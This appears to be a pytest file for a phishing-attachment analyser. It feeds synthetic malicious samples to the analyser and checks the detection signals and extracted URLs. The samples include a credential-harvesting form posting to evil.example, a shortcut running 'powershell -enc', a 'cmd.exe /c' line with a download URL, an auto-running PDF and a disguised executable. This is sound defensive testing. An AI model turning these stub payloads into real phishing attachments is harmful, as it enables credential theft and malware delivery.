import hashlib
import io
import zipfile

from lurewatch.operators import report

FILE = "email_id string, file_path string, name string, content_type string, data binary, reason string"


def zipped(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def test_whole_job(spark):
    page = b"<html><script>x</script><form action='https://evil.example/p'><input type=password></form><img src=\"https://img.example/a\"></html>"
    lnk = bytes.fromhex("4C0000000114020000000000C000000000000046") + b" powershell -enc AAAA https://l.example/x "
    one = bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3") + "start.exe https://wide.example/y".encode("utf-16-le")
    mail = b"From: a@b.c\nSubject: in\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=B\n\n--B\nContent-Type: text/plain\n\nsee https://inner.example/z\n--B\nContent-Type: text/html; name=p.html\nContent-Disposition: attachment; filename=p.html\n\n" + page + b"\n--B--\n"
    macro = zipped({"[Content_Types].xml": "x", "word/document.xml": "x", "word/vbaProject.bin": "x"})
    rows = [
        ("m", "0", "p.html", "", page, None), ("m", "1", "s.lnk", "", lnk, None), ("m", "2", "n.one", "", one, None), ("m", "3", "x.eml", "message/rfc822", mail, None),
        ("m", "4", "a.zip", "", zipped({"run.exe": b"MZ" + bytes(100), "in.zip": zipped({"deep.js": "eval(1)"})}), None), ("m", "5", "bad.zip", "", b"PK\x03\x04 broken", None),
        ("m", "6", "d.docm", "", macro, None), ("m", "7", "t.txt", "", b"plain words", None), ("m", "8", "w.js", "", b"var a = new ActiveXObject('WScript.Shell')", None),
        ("m", "9", "late.bin", "", None, "more than 10 attachments; not analysed"), ("n", "0", "u.bin", "", b"\x00\x01cmd.exe /c https://bin.example/q\x00", None), ("n", "1", "f.pdf", "", b"%PDF-1.4 /JavaScript /OpenAction /URI (https://pdf.example/u)", None),
        ("n", "2", "pic.svg", "", b"<svg onload='x()'></svg>", None), ("n", "3", "r.doc", "", b"{\\rtf1 \\objdata \\objupdate}", None), ("n", "4", "doc.pdf", "", b"MZ" + bytes(100), None),
    ]
    got = {(r["email_id"], r["file_path"]): r for r in report.analyze_attachments(spark.createDataFrame(rows, FILE)).collect()}
    named = lambda *k: [s["signal"] for s in got[k]["signals"]]
    assert named("m", "0") == ["credential_harvest_form", "html_attachment"] and got["m", "0"]["urls"] == ["https://evil.example/p", "https://img.example/a"]
    assert set(named("m", "1")) == {"shortcut_file", "shortcut_runs_commands"} and got["m", "1"]["urls"] == ["https://l.example/x"]
    assert named("m", "2") == ["onenote_embedded_launcher", "onenote_attachment"] and got["m", "2"]["urls"] == ["https://wide.example/y"]
    assert got["m", "3"]["kind"] == "eml" and got["m", "3"]["risk"] == 3 and "https://inner.example/z" in got["m", "3"]["urls"] and got["m", "3/000"]["kind"] == "html"
    assert named("m", "4") == ["archive_contains_runnable", "nested_archive"] and got["m", "4/001/000"]["depth"] == 2 and got["m", "4/001/000"]["risk"] == 3
    assert named("m", "4/000") == ["windows_executable"] and named("m", "5") == ["unparseable_zip"]
    assert "vba_macros" in named("m", "6") and "macro_enabled_extension" not in named("m", "6")
    assert named("m", "7") == [] and got["m", "7"]["risk"] == 0 and named("m", "8") == ["script_attachment"]
    assert got["m", "9"]["reason"].startswith("more than") and got["m", "9"]["signals"] == [] and got["m", "9"]["risk"] == 0
    assert got["n", "0"]["urls"] == ["https://bin.example/q"] and "pdf_javascript_autorun" in named("n", "1") and got["n", "1"]["urls"] == ["https://pdf.example/u"]
    assert named("n", "2") == ["svg_script"] and "rtf_auto_updating_object" in named("n", "3") and "disguised_executable" in named("n", "4")
    assert report.analyze_attachments(spark.createDataFrame([], FILE)).count() == 0
    assert len(got) == len(rows) + 4 and got["m", "7"]["sha256"] == hashlib.sha256(b"plain words").hexdigest()
